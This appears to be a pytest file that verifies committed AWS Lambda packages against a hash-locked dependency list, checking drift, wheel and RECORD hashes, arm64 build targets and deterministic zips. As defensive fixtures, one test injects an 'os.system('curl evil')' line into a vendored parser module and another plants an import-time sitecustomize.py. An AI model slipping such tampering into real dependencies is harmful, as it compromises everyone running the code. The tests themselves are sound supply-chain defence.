"""The committed Lambda packages of terraform/modules/workflow are functions/ and its hash-locked dependencies.

No network and no Terraform: the zips are read as Lambda would read them. The layer is checked by file hashes:
functions/requirements.lock pins each wheel's sha256 (pip's --require-hashes enforces it when `make package`
downloads them), each wheel's RECORD pins its files' sha256, and every file of the committed layer must match.
`python tools/package.py --verify` repeats the download and compares the whole layer (network).
"""

from __future__ import annotations

import io
import shutil
import zipfile
from pathlib import Path

import pytest

from tools import package

EM_AARCH64 = 183  # ELF e_machine of arm64 (Lambda's arm64 architecture runs Graviton)


def entries(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_functions_zip_is_exactly_the_functions_directory() -> None:
    committed, expected = entries(package.FUNCTIONS_ZIP), package.code_entries()

    assert sorted(set(expected) - set(committed)) == [], "missing from functions.zip: run `make package`"
    assert sorted(set(committed) - set(expected)) == [], "gone from functions/: run `make package`"
    assert sorted(name for name in expected if committed[name] != expected[name]) == [], (
        "changed since functions.zip was built: run `make package` and commit it"
    )


def test_the_drift_check_notices_a_changed_handler(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # GIVEN functions/ with one handler edited after the last `make package`
    functions = tmp_path / "functions"
    shutil.copytree(package.FUNCTIONS, functions, ignore=shutil.ignore_patterns("__pycache__"))
    (functions / "check_migration_task.py").write_text(
        (functions / "check_migration_task.py").read_text() + "\n# edited\n"
    )
    monkeypatch.setattr(package, "FUNCTIONS", functions)

    # THEN the committed package no longer counts as current
    assert package.code_current() is False


def test_dependencies_zip_holds_exactly_the_locked_distributions() -> None:
    with zipfile.ZipFile(package.DEPENDENCIES_ZIP) as archive:
        versions = package.zip_versions(archive)

    locked = package.locked_requirements()
    assert versions == {name: entry.version for name, entry in locked.items()}, "run `make package` after --lock"
    # pydantic's compiled core is the exact version pydantic requires (a mismatch fails at import).
    assert "pydantic-core" in versions


def test_every_package_of_the_layer_transitive_ones_too_is_pinned_with_a_wheel_hash() -> None:
    text = package.LOCK.read_text()
    locked = package.locked_requirements(text)

    assert all(len(entry.hashes) >= 1 for entry in locked.values())
    assert all(
        len(digest) == 64 and set(digest) <= set("0123456789abcdef") for e in locked.values() for digest in e.hashes
    )
    # requirements.txt's own pins are the lock's: the lock was resolved from them.
    assert package.lock_disagreements() == []
    # SAM's `sam build` and the development install read requirements.txt, which stays free of hashes.
    assert "--hash" not in (package.FUNCTIONS / "requirements.txt").read_text()


def test_a_lock_line_without_a_hash_is_refused() -> None:
    with pytest.raises(SystemExit, match="jmespath==1.1.0"):
        package.locked_requirements("jmespath==1.1.0\n")


def test_every_file_of_the_layer_matches_the_hash_its_wheel_records() -> None:
    with zipfile.ZipFile(package.DEPENDENCIES_ZIP) as archive:
        assert package.record_mismatches(archive) == []


def test_the_check_notices_a_file_of_the_layer_changed_under_the_same_version(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # GIVEN the committed layer with one module of a locked distribution edited, its dist-info untouched
    layer = entries(package.DEPENDENCIES_ZIP)
    layer["python/jmespath/parser.py"] += b"\nimport os; os.system('curl evil')\n"
    tampered = tmp_path / "dependencies.zip"
    tampered.write_bytes(package.deterministic_zip(layer))
    monkeypatch.setattr(package, "DEPENDENCIES_ZIP", tampered)

    # THEN the versions still agree, but the layer no longer counts as current
    with zipfile.ZipFile(tampered) as archive:
        assert package.zip_versions(archive)["jmespath"] == package.locked_requirements()["jmespath"].version
        assert package.record_mismatches(archive) == [
            "python/jmespath/parser.py: sha256 differs from its wheel's RECORD"
        ]
    assert package.dependencies_current() is False


def test_the_check_notices_a_file_no_wheel_records(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    layer = entries(package.DEPENDENCIES_ZIP)
    layer["python/sitecustomize.py"] = b"print('runs at every import')\n"
    extra = tmp_path / "dependencies.zip"
    extra.write_bytes(package.deterministic_zip(layer))
    monkeypatch.setattr(package, "DEPENDENCIES_ZIP", extra)

    assert package.dependencies_current() is False


def test_a_downloaded_wheel_whose_hash_the_lock_lacks_is_refused(tmp_path: Path) -> None:
    # GIVEN a wheel named like a locked one but with other bytes
    wheel = tmp_path / "jmespath-1.1.0-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as archive:
        archive.writestr("jmespath/__init__.py", "print('not the locked wheel')\n")

    # THEN nothing of it reaches the layer
    with pytest.raises(SystemExit, match="jmespath-1.1.0-py3-none-any.whl: not in"):
        package.verify_wheels([wheel], {"jmespath": package.locked_requirements()["jmespath"]})


def test_dependencies_are_a_layer_built_for_python312_on_arm64() -> None:
    with zipfile.ZipFile(package.DEPENDENCIES_ZIP) as archive:
        names = archive.namelist()
        compiled = [name for name in names if name.endswith(".so")]
        machines = {name: int.from_bytes(archive.read(name)[18:20], "little") for name in compiled}

    # A layer's Python packages live under python/, which Lambda puts on sys.path.
    assert all(name.startswith("python/") for name in names)
    assert compiled and all(".cpython-312-aarch64-linux-gnu.so" in name for name in compiled), compiled
    assert set(machines.values()) == {EM_AARCH64}, machines
    # boto3 comes with the Lambda Python runtime, as with `sam build`.
    assert not any(name.startswith(("python/boto3/", "python/botocore/")) for name in names)


@pytest.mark.parametrize("path", [package.FUNCTIONS_ZIP, package.DEPENDENCIES_ZIP], ids=lambda p: p.name)
def test_packages_are_deterministic(path: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        infos = archive.infolist()

    assert [info.filename for info in infos] == sorted(info.filename for info in infos)
    assert {info.date_time for info in infos} == {package.FIXED_TIME}
    assert {info.external_attr >> 16 for info in infos} == {0o100644}


def test_a_rebuilt_functions_zip_has_the_same_entries_in_the_same_order() -> None:
    rebuilt = zipfile.ZipFile(io.BytesIO(package.deterministic_zip(package.code_entries())))

    with zipfile.ZipFile(package.FUNCTIONS_ZIP) as committed:
        assert [(i.filename, i.CRC, i.date_time) for i in rebuilt.infolist()] == [
            (i.filename, i.CRC, i.date_time) for i in committed.infolist()
        ]
